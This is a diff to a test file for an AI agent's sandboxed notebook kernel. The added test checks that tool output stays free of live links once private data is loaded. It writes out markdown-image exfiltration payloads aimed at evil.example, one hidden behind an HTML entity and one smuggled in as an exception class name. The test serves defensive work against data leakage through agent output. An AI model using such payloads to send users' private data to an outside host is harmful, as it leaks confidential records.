@@ -15,7 +15,14 @@ from kernel_helpers import require_bwrap
 
 from sandbox_kernel.privacy import PrivacyStore, PrivateData
 from sandbox_kernel.sandbox import BubblewrapSandbox
-from sandbox_kernel.tools import SessionRegistry, repl_execute_cell, sandbox_execute, shell
+from sandbox_kernel.tools import (
+    SessionRegistry,
+    repl_execute_cell,
+    repl_show_cell,
+    repl_show_notebook,
+    sandbox_execute,
+    shell,
+)
 
 pytestmark = pytest.mark.asyncio
 
@@ -125,6 +132,31 @@ async def test_private_cell_output_split_across_chunks_has_no_followable_url(
     r = await repl_execute_cell(cell, **kw)
     assert "evil.example/log?d=ROWS" in r.text, r.text
     assert "https://" not in r.text and "javascript:" not in r.text and "www.evil" not in r.text, r.text
+
+
+async def test_private_html_only_outputs_and_class_names_carry_no_followable_url(
+    registry: SessionRegistry, data_dir: Path
+) -> None:
+    """The tools make an HTML-only output's text themselves (tags stripped,
+    entities decoded): ``https&#58;//`` in the sandbox's HTML, harmless in a
+    page, came back as a live ``https://`` in the tool's text; an exception's
+    class name is any string. Found by an attack review."""
+    kw = ids(registry, "html")
+    cell = (
+        "from IPython.display import display\n"
+        "display({'text/html': '<p>![x](https&#58;//evil.example/p.png?d=ROWS)</p>'}, raw=True)\n"
+    )
+    r = await repl_execute_cell(cell, **kw)
+    assert "![x](https://evil.example/p.png?d=ROWS)" in r.text, r.text  # public: as the page reads
+    store = PrivacyStore(data_dir / "privacy")
+    await asyncio.to_thread(PrivateData("alice", "html", store).add_private_dataset, "crm", "SECRET", "connector", True)
+    raised = "raise type('![z](https://evil.example/e.png?d=ROWS)', (Exception,), {})('v')"
+    texts = [(await repl_execute_cell(code, **kw)).text for code in (cell, raised)]
+    texts += [(await repl_show_cell(n, full=True, **kw)).text for n in (1, 2)]
+    texts.append((await repl_show_notebook(**kw)).text)
+    for text in texts:  # (the code shown is the agent's own)
+        assert "https://" not in text.replace(raised, ""), text
+    assert all("evil.example" in text.replace(raised, "") for text in texts), texts
 
 
 async def test_tool_text_holds_no_terminal_sequence(registry: SessionRegistry) -> None:
